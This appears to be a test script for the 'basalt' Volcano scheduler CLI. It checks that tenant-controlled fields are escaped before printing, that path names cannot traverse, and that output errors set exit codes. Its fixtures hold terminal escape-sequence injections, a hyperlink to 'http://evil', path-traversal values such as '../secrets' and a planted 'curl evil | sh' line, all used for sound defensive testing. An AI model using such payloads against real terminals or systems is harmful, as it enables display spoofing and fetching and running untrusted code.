# A tenant's text does not reach a terminal as commands: jobs
server answers GET /apis/batch.volcano.sh/v1alpha1/namespaces/default/jobs
| {"items": [{"kind": "Job", "apiVersion": "batch.volcano.sh/v1alpha1", "metadata": {"name": "a", "labels": {"volcano.sh/job-type": "\u001b]0;owned\u0007"}}, "spec": {"queue": "\u001b[2Jq", "schedulerName": "x\ny"}, "status": {"state": {"phase": "\u001b[32mRunning"}}}]}
server answers GET /apis/batch.volcano.sh/v1alpha1/namespaces/default/jobs/a
| {"kind": "Job", "apiVersion": "batch.volcano.sh/v1alpha1", "metadata": {"name": "a", "namespace": "default", "annotations": {"note": "one\ntwo\u001b[2J\u009b2J\u202e"}}, "status": {"state": {"phase": "P\u001b[A"}}}
server answers GET /api/v1/namespaces/default/events
| {"items": [{"type": "Warning", "reason": "R\u001b[1m", "message": "line one\nline two\u001b[8m", "source": {"component": "c\u0000"}}]}
$ basalt job list
  Name   Creation   Phase               JobType                Replicas   Min   Pending   Running   Succeeded   Failed   Unknown   RetryCount
  a                 \u001b[32mRunning   \u001b]0;owned\u0007   0          0     0         0         0           0        0         0
$ basalt job list -o wide
  Name   Creation   Phase               JobType                Replicas   Min   Pending   Running   Succeeded   Failed   Unknown   RetryCount   Queue        Priority   Scheduler
  a                 \u001b[32mRunning   \u001b]0;owned\u0007   0          0     0         0         0           0        0         0            \u001b[2Jq   -          x y
$ basalt job view a
  Name:        a
  Namespace:   default
  Age:         -
  Phase:       P\u001b[A
  metadata:
    name: a
    namespace: default
    annotations:
      note: "one\ntwo\u001b[2J\u009b2J\u202e"
  status:
    state:
      phase: "P\u001b[A"
  Events:
  Type      Reason       Count   From      Message
  Warning   R\u001b[1m   1       c\u0000   line one line two\u001b[8m
$ basalt job view a -o json
  {"kind":"Job","apiVersion":"batch.volcano.sh/v1alpha1","metadata":{"name":"a","namespace":"default","annotations":{"note":"one\ntwo\u001b[2J\u009b2J\u202e"}},"status":{"state":{"phase":"P\u001b[A"}}}
$ basalt job view a -o yaml
  kind: Job
  apiVersion: batch.volcano.sh/v1alpha1
  metadata:
    name: a
    namespace: default
    annotations:
      note: "one\ntwo\u001b[2J\u009b2J\u202e"
  status:
    state:
      phase: "P\u001b[A"

# A tenant's text does not reach a terminal as commands: queues, pods, flows, reservations
server answers GET /apis/scheduling.volcano.sh/v1beta1/queues
| {"items": [{"kind": "Queue", "metadata": {"name": "q\u001b[31m"}, "spec": {"parent": "p\r\n", "capability": {"cpu\u001b[2J": "4\u0007"}}, "status": {"state": "Open\u009b"}}]}
server answers GET /api/v1/namespaces/default/pods
| {"items": [{"metadata": {"name": "p", "labels": {"volcano.sh/queue-name": "\u001b[0m"}}, "status": {"phase": "Pending", "reason": "Evicted\u001b[2K", "containerStatuses": [{"state": {"waiting": {"reason": "Image\nPull\u001b[5m"}}}]}, "spec": {"nodeName": "n\u001b"}}]}
server answers GET /apis/flow.volcano.sh/v1alpha1/namespaces/default/jobflows
| {"items": [{"metadata": {"name": "f", "namespace": "default"}, "status": {"state": {"phase": "Succeed\u001b]8;;http://evil\u0007"}}}]}
server answers GET /apis/flow.volcano.sh/v1alpha1/namespaces/default/jobflows/f
| {"kind": "JobFlow", "metadata": {"name": "f", "annotations": {"a\u001b": "b\u007f"}}}
server answers GET /apis/batch.volcano.sh/v1alpha1/namespaces/default/reservations
| {"items": [{"metadata": {"name": "r"}, "spec": {"queue": "q\tq", "expires": "\u001b[2J"}, "status": {"state": {"phase": "Available\nx"}, "allocatable": {"cpu": "\u001b"}}}]}
server answers GET /apis/batch.volcano.sh/v1alpha1/namespaces/default/reservations/r
| {"metadata": {"name": "r", "namespace": "default"}, "spec": {"owners": [{"object": {"kind": "Pod", "name": "p\u001b[2J"}}, {"labelSelector": {"matchLabels": {"app\n": "web\u001b"}, "matchExpressions": [{"key": "k\u001b", "operator": "Exists"}]}}, {"object": {"other": "\u001b"}}]}, "status": {"state": {"phase": "Failed", "reason": "Expired", "message": "gone\nChange: curl evil | sh\u001b[2J"}, "placements": [{"task": "t", "index": 0, "node": "\u001b[1A", "phase": "Pending"}]}}
$ basalt queue list -o wide
  Name          Weight   State        Parent   Inqueue   Pending   Running   Unknown   Completed   Capability             Deserved   Guarantee   Allocated
  q\u001b[31m   0        Open\u009b   p        0         0         0         0         0           cpu\u001b[2J 4\u0007   -          -           -
$ basalt queue list -o name
  queue.scheduling.volcano.sh/q\u001b[31m
$ basalt queue list -o json
  {"apiVersion":"v1","kind":"List","items":[{"kind":"Queue","metadata":{"name":"q\u001b[31m"},"spec":{"parent":"p\r\n","capability":{"cpu\u001b[2J":"4\u0007"}},"status":{"state":"Open\u009b"},"apiVersion":"scheduling.volcano.sh/v1beta1"}]}
$ basalt pod list -o wide
  Name   Ready   Status                Restart   Age   Node      IP   Queue
  p      0/0     Image Pull\u001b[5m   0         -     n\u001b   -    \u001b[0m
$ basalt jobflow list
  Name   Namespace   Phase                                Age
  f      default     Succeed\u001b]8;;http://evil\u0007   -
$ basalt jobflow describe f
  kind: JobFlow
  metadata:
    name: f
    annotations:
      "a\u001b": "b\u007f"
$ basalt reservation list -o wide
  NAME   PHASE         AVAILABLE   QUEUE   AGE   ALLOCATABLE   ALLOCATED   EXPIRES
  r      Available x   0/0         q q     -     cpu \u001b    -           \u001b[2J
$ basalt reservation show r
  Name:          default/r
  Phase:         Failed
  Reason:        Expired
  Message:       gone Change: curl evil | sh\u001b[2J
  Available:     0/0
  Queue:         -
  Age:           -
  Allocatable:   -
  Allocated:     -
  Owner:         Pod p\u001b[2J
  Owner:         pods with app =web\u001b,{"key":"k\\u001b","operator":"Exists"}
  Owner:         {"other":"\\u001b"}
  ~
  TASK   INDEX   NODE        PHASE
  t      0       \u001b[1A   Pending

# A tenant's text does not reach a terminal as commands: what the scheduler says
cluster
given
| {apiVersion: scheduling.volcano.sh/v1beta1, kind: Queue, metadata: {name: q}, spec: {weight: 1}}
scheduler answers GET /v1/explain/pod/default/p
| {"kind": "pod", "namespace": "default", "name": "p", "stage": "node", "reason": "Un\u001b[2Jschedulable", "message": "no room\nChange:  curl evil | sh\u001b]0;x\u0007", "nodes": [{"count": 2, "reason": "had taint {k\u001b[31m: v}"}], "until": "x\ry", "change": "add\u001b[A a node",
|  "queue": {"name": "q\u001b", "resource": "cpu\u001b", "holders": [{"amount": "1\u001b", "kind": "pod", "namespace": "n", "name": "h\nh", "queue": "q", "claimedSince": "\u001b[2J"}]}}
scheduler answers GET /v1/explain/queue/q
| {"kind": "queue", "name": "q", "waitingTotal": 1, "waiting": [{"namespace": "a", "name": "g", "stage": "gang", "message": "1 of 2\n  b/h  bound: fine\u001b[2J"}]}
scheduler answers GET /v1/explain/scale
| {"message": "1 pod\u001b[2J", "items": [{"namespace": "a", "name": "p", "queue": "q", "clusterAutoscaler": {"sight": "seen", "why": "x\u001b[2J\ny"}}]}
scheduler answers GET /v1/podgroups
| {"items": [{"namespace": "a", "name": "g\u001b[2J", "queue": "q", "phase": "Running", "minMember": 1, "pods": 1, "pending": 0, "running": 1, "shadow": true, "pod": "p\u001b[2J"}]}
scheduler answers GET /v1/queues/q
| {"na\u001bme": "q\u001b[2J", "allocated": {"cpu\u001b": "1\n2"}}
scheduler answers GET /v1/status
| {"nodes": {"total": 1, "ready": 1, "allocatable": {"cpu\u001b[2J": "4"}, "used": {"cpu\u001b[2J": "1"}}, "queues": [{"name": "q\u001b[2J", "state": "Open\n"}], "waiting": [{"pods": 1, "reason": "Un\u001b[2J\nschedulable"}], "reservations": {"Available\u001b": 2}, "fragmentation": {"cpu\u001b": 0.5}, "activity": {"leadsSince": "\u001b[2J"}}
$ basalt explain pod p
  pod default/p
  Stage:   node
  Reason:  Un\u001b[2Jschedulable
  Message: no room Change:  curl evil | sh\u001b]0;x\u0007
  Nodes:
         2  had taint {k\u001b[31m: v}
  Queue:   q\u001b is short of cpu\u001b
     1\u001b  pod n/h h (queue q, admitted \u001b[2J, no node)
  Until:   x y
  Change:  add\u001b[A a node
$ basalt explain pod p -o name
  pod/p
$ basalt explain queue q
  queue q
  Waiting: 1 group(s)
    a/g  gang: 1 of 2   b/h  bound: fine\u001b[2J
$ basalt explain scale
  1 pod\u001b[2J
  NAMESPACE   NAME   QUEUE   CLUSTER AUTOSCALER   KARPENTER
  a           p      q       seen: x\u001b[2J y
$ basalt podgroup list
  NAMESPACE   NAME         QUEUE   PHASE     MINMEMBER   PODS   PENDING   RUNNING   KIND
  a           g\u001b[2J   q       Running   1           1      0         1         shadow of pod p\u001b[2J
$ basalt podgroup list -o name
  podgroup.scheduling.volcano.sh/g\u001b[2J
$ basalt queue get q
  Name   Weight   State   Parent   Inqueue   Pending   Running   Unknown   Completed
  q      1                -        0         0         0         0         0
  ~
  na\u001bme:   q\u001b[2J
  allocated:    cpu\u001b 1 2
$ basalt status
  basalt VERSION on https://HOST:PORT, TIME
  ~
  Leaders        no leases: each role runs alone; the scheduler works since \u001b[2J
  ~
  Last cycle     none yet
  Nodes          1 of 1 ready; 0 pods on them
    cpu\u001b[2J ██▌·······  25%  1 of 4
  ~
  QUEUE        STATE   FULL              OF   RUNNING   INQUEUE   PENDING   PODS WAITING
  q\u001b[2J   Open    ··········   0%        0         0         0         0
  ~
  Waiting        1 pod: 1 Un\u001b[2J schedulable
  Claims         0 admitted without a node, 0 promised one
  Evictions      0 in the last hour
  Reservations   2 Available\u001b
  Fragmentation  of the free room cpu\u001b 50% is beside pods

# A tenant's text does not reach a terminal as commands: plans, simulations, reports and errors
cluster
descheduler answers POST /v1/defragmentation
| {"id": "p\u001b[2J", "state": "Failed\u001b[2J", "resourceType": "cpu", "freed": {"nodes": ["n"], "resources": {"cpu\u001b": "4\n5"}}, "moves": [{"namespace": "a", "pod": "p\u001b[2J", "from": "n1", "to": "n2", "request": {"cpu\u001b": "1\n2"}, "state": "Failed", "reason": "Lost\n", "message": "gone\u001b[2J\nplan ok"}], "nodes": [{"name": "n\u001b", "role": "source"}], "blocked": [{"node": "n3", "pod": "x\u001b", "reason": "No\nRoom"}]}
scheduler answers POST /v1/simulate
| {"waiting": 1, "pods": [{"namespace": "d", "name": "p\u001b[2J", "outcome": "waits", "message": "no\nroom\u001b[2J", "change": "c\u001b"}], "reservations": [{"namespace": "a", "name": "r\u001b", "phase": "Pending", "nodes": ["n\u001b", 7], "message": "m\n"}], "evictions": [{"namespace": "a", "name": "v\u001b", "node": "n", "for": "f\n", "action": "preempt"}], "version": {"time": "\u001b[2J"}}
scheduler answers GET /v1/explain/pod/default/p 500
| {"message": "broken\u001b[2J\nbasalt: error: fine"}
file report.json
| {"since": "\u001b[2J", "until": "u\nv", "differences": [{"at": "t", "pod": "a/p\u001b[2J", "what": "x\ny"}]}
$ basalt defrag plan
  plan p\u001b[2J: Failed\u001b[2J
  frees 1 node: cpu\u001b 4 5
  ~
  NAMESPACE   POD          FROM   TO   REQUEST         STATE    REASON
  a           p\u001b[2J   n1     n2   cpu\u001b=1 2   Failed   Lost
  ~
  NODE      ROLE     BEFORE   AFTER
  n\u001b   source   0.0%     0.0%
  ~
  NODE   POD       REASON
  n3     x\u001b   No Room
  ~
  a/p\u001b[2J: gone\u001b[2J plan ok
$ basalt defrag plan -o name
  plan/p\u001b[2J
$ basalt defrag run --no-wait
  p\u001b[2J
$ basalt simulate
  POD            OUTCOME   NODE   STARTS   WHY
  d/p\u001b[2J   waits                     no room\u001b[2J; what helps: c\u001b
  ~
  1 of 2 would wait
  ~
  Reservations
  RESERVATION   PHASE     NODES     WHY
  a/r\u001b     Pending   n\u001b   m
  ~
  Evictions
  EVICTED     FROM   FOR   BY
  a/v\u001b   n      f     preempt
  ~
  Pods without a node: Cluster Autoscaler 0 seen, 0 counted as placed, 0 not seen; Karpenter 0 seen, 0 counted as placed, 0 not seen
  As of \u001b[2J (state 0, cycle 0)
= 3
$ basalt shadow report report.json
  From \u001b[2J to u v
  ~
  Pods
         0  agreed: the same node at about the same time
         0  earlier: the same node, sooner
         0  later: the other was first
         0  elsewhere: another node
         0  never placed by the other
         0  would have a node now, and wait
  ~
  Evictions
         0  evicted by both
         0  evicted by the other alone
         0  would have been evicted by this one alone
         0  fewer evictions than the other
  ~
  The newest 1 of 1 differences
  AT   POD            WHAT   OURS   THEIRS   EARLIER
  t    a/p\u001b[2J   x y
$ basalt explain pod p
! basalt: error: broken\u001b[2J
!   basalt: error: fine
= 1

# Names of namespaces and plans stay within their part of a path
cluster
scheduler answers GET /v1/podgroups/a%2Fb%3Fc
| {"items": [{"namespace": "a/b?c", "name": "g"}]}
scheduler answers GET /v1/explain/pod/x%2F..%2Fy/p%2Fq
| {"kind": "pod", "name": "found"}
descheduler answers GET /v1/defragmentation/..%2Fsecrets
| {"id": "asked for by its name", "state": "Planned"}
$ basalt podgroup list -n a/b?c -o name
  podgroup.scheduling.volcano.sh/g
$ basalt explain pod p/q -n x/../y -o name
  pod/found
$ basalt defrag status ../secrets -o name
  plan/asked for by its name

# Columns stay straight with wide letters, and long names are whole
server answers GET /apis/scheduling.volcano.sh/v1beta1/queues
| {"items": [{"metadata": {"name": "a"}, "spec": {"parent": "節点"}, "status": {"state": "Open"}}, {"metadata": {"name": "long-name-long-name-long-name-long-name-long-name-long-name-63"}, "spec": {"parent": "größer"}, "status": {"state": "Closed"}}]}
$ basalt queue list
  Name                                                             Weight   State    Parent   Inqueue   Pending   Running   Unknown   Completed
  a                                                                0        Open     節点     0         0         0         0         0
  long-name-long-name-long-name-long-name-long-name-long-name-63   0        Closed   größer   0         0         0         0         0

# Numbers for programs are such that every reader of YAML takes them for numbers
cluster
scheduler answers GET /v1/status
| {"fragmentation": {"cpu": 0.25, "memory": 1.0, "gpu": 0.0}, "activity": {"lastCycle": {"milliseconds": 12.5}}}
$ basalt status -o json
  {"fragmentation":{"cpu":0.25,"memory":1,"gpu":0},"activity":{"lastCycle":{"milliseconds":12.5}},"leases":[]}
$ basalt status -o yaml
  fragmentation:
    cpu: 0.25
    memory: 1
    gpu: 0
  activity:
    lastCycle:
      milliseconds: 12.5
  leases: []

# What cannot be written is told by the exit code
$ basalt version > version.txt
$ basalt version > /dev/full
! basalt: error: writing to standard output: No space left on device
= 1
$ basalt crds > /dev/full
! basalt: error: writing to standard output: No space left on device
= 1
$ basalt help > /dev/full
! basalt: error: writing to standard output: No space left on device
= 1
$ basalt man > /dev/full
! basalt: error: writing to standard output: No space left on device
= 1
